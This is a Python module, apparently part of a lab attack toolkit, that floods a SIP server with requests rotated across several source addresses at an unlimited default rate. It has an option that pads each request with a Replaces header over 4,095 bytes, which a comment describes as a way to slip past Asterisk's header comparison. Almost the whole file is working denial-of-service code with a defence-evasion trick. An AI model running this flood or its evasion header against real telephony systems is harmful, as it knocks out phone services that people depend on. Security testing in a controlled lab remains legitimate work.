"""`python -m lab.attacks.flooding HOST PORT METHOD SENDER NUMBER ADDRESS…`: a flood from these addresses, in turn."""

import argparse
import asyncio
import itertools
import time
from contextlib import AsyncExitStack
from math import inf

from lab.attacks.attacker import Attacker
from lab.attacks.program import LONGEST, over, say

TURN = 0.2
"""Seconds of one address, before the next one's turn."""

LONG_REPLACES = f"Replaces: CALL-ID-OF-THE-FLOOD;to-tag=guessed;from-tag=guessed;x={'a' * 4_100}\r\n"
"""Asterisk compares no header that has more than 4,095 bytes: docs/security.md. Each has a Call-ID of its own."""


async def flood(chosen: argparse.Namespace) -> int:
    """How many were sent."""
    server = (chosen.host, chosen.port)
    uri = f"sip:{f'{chosen.number}@' if chosen.method == 'INVITE' else ''}{server[0]}:{server[1]}"
    more = {"sender": chosen.sender, "method": chosen.method, "rate": chosen.rate}
    sent, end = 0, time.monotonic() + LONGEST
    async with AsyncExitStack() as opened:
        attackers = [await opened.enter_async_context(Attacker(server, host=host)) for host in chosen.addresses]
        say("begun")
        for attacker in itertools.cycle(attackers):
            headers = LONG_REPLACES if chosen.replaces else ""
            sent += await attacker.flood(uri, TURN / len(attackers), headers=headers, **more)
            if time.monotonic() > end or over():
                return sent
    raise AssertionError("there is no address")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("method")
    parser.add_argument("sender")
    parser.add_argument("number")
    parser.add_argument("addresses", nargs="+")
    parser.add_argument("--rate", type=float, default=inf, help="requests a second (default: what the socket takes)")
    parser.add_argument("--replaces", action="store_true", help="each has a Replaces that Asterisk does not compare")
    say(f"{asyncio.run(flood(parser.parse_args()))} requests")


if __name__ == "__main__":
    main()
